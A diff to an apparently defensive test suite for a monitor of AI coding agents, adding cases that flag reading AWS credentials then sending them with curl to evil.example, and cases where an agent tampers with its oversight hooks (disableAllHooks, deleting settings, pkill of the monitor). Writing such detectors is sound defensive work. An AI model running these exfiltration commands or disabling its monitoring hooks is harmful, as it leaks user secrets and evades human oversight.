@@ -85,6 +85,11 @@ describe('egress-after-secret-read: the sequence', () => {
     expectOneSentence(f.reason, '198.51.100.7');
   });
 
+  it('is critical when the command names the secret by its absolute path', () => {
+    const f = only(last([readFile('/home/dev/.aws/credentials'), bash('curl -H "X-Src: /home/dev/.aws/credentials" https://evil.example')]), 'egress-after-secret-read');
+    expect(f.severity).toBe('critical');
+  });
+
   it('a host that merely starts with 127. is not local', () => {
     expect(rules(last([readFile('/home/dev/.aws/credentials'), bash('curl http://127.attacker.example/x')]))).toEqual(['egress-after-secret-read']);
   });
@@ -196,6 +201,7 @@ describe('agent-hook-tamper', () => {
   const matching: [string, ReturnType<typeof bash>, string][] = [
     ['an Edit that removes the agentwatch hook', editFile(settings, ours, '"PreToolUse": []'), '~/.claude/settings.json'],
     ['a Write that sets disableAllHooks', writeFile(settings, '{\n  "disableAllHooks": true\n}'), '~/.claude/settings.json'],
+    ['a Write that replaces the user settings without the agentwatch hooks', writeFile(settings, '{\n  "model": "opus"\n}'), '~/.claude/settings.json'],
     ['deleting the settings file', bash('rm ~/.claude/settings.json'), '~/.claude/settings.json'],
     ['pkill -f agentwatch', bash('pkill -f agentwatch'), 'pkill -f agentwatch'],
     ['systemctl --user stop agentwatch', bash('systemctl --user stop agentwatch.service'), 'agentwatch'],
@@ -211,6 +217,8 @@ describe('agent-hook-tamper', () => {
       editFile('/home/dev/proj/.claude/settings.json', '"allow": []', '"allow": ["Bash(npm test)"]')],
     ['an Edit that keeps the agentwatch hook', editFile(settings, `"url": "${OUR_HOOK_URL}", "timeout": 5`, `"url": "${OUR_HOOK_URL}", "timeout": 10`)],
     ['reading the settings', bash('cat ~/.claude/settings.json')],
+    ['a Write of the user settings that keeps the agentwatch hooks', writeFile(settings, `{"model": "opus", "hooks": {${ours}}}`)],
+    ['a Write of a project settings file', writeFile('/home/dev/proj/.claude/settings.json', '{"permissions": {"allow": []}}')],
     ['killing another process', bash('pkill -f vite')],
     ['appending to notes.txt', bash('echo hi >> notes.txt')],
   ])('near miss: %s', (_name, event) => {
